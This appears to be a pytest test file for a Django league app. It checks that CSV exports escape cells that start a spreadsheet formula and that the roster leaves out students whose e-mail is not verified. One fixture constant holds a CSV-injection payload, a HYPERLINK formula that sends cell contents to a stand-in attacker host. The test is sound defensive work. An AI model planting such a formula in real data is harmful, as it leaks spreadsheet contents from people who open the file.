"""The director's CSV exports (league/views/director_exports.py): every text cell is safe to open in a
spreadsheet, and the roster lists only students whose e-mail address is verified."""

import csv
import io

import pytest
from django.urls import reverse

from league.standings import rebuild_standings
from league.views.director_exports import spreadsheet_safe
from tests.support import ProfileFactory, confirmed_game

FORMULA = '=HYPERLINK("http://attacker.example.org/?"&A1,"Click")'


def rows_of(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.content.decode())))


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        (FORMULA, "'" + FORMULA),
        ("+1-555-0100", "'+1-555-0100"),
        ("-Rowan", "'-Rowan"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\tTabbed", "'\tTabbed"),
        ("\rReturned", "'\rReturned"),
        ("Rowan Pemberton", "Rowan Pemberton"),
        (-50, -50),
        (0, 0),
        (True, True),
    ],
)
def test_a_text_cell_that_starts_a_formula_is_written_as_text_and_numbers_stay_numbers(
    cell, written
):
    assert spreadsheet_safe(cell) == written


@pytest.fixture
def formula_player(player):
    player.user.first_name = FORMULA
    player.user.save()
    return player


def test_every_export_neutralises_a_players_name_that_is_a_formula(
    client, director, match, league, formula_player, opponent
):
    confirmed_game(match, winner=opponent, loser=formula_player, scores=(400, 350))
    rebuild_standings([league.pk])
    client.force_login(director.user)

    standings = rows_of(client.get(reverse("export_standings", args=[league.slug])))
    results = rows_of(client.get(reverse("export_results", args=[league.slug])))
    roster = rows_of(client.get(reverse("export_roster")))

    cells = [cell for table in (standings, results, roster) for row in table for cell in row]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "@", "\t", "\r"))]
    assert f"'{FORMULA} Pemberton" in [row[1] for row in standings]
    assert "'" + FORMULA in [row[1] for row in roster]
    # The loser's spread stays a number a spreadsheet adds up.
    spread = standings[0].index("spread")
    assert sorted(row[spread] for row in standings[1:]) == ["-50", "50"]


def test_the_roster_export_leaves_out_students_who_never_verified_their_email(
    client, director, player, institution
):
    from django.contrib.auth.models import Group

    from accounts import roles

    unverified = ProfileFactory(institution=institution, user__verified=False, campus_id="7654321")
    unverified.user.groups.add(Group.objects.get(name=roles.STUDENTS))
    player.user.groups.add(Group.objects.get(name=roles.STUDENTS))
    client.force_login(director.user)

    roster = rows_of(client.get(reverse("export_roster")))

    campus_ids = [row[0] for row in roster[1:]]
    assert player.campus_id in campus_ids
    assert "7654321" not in campus_ids
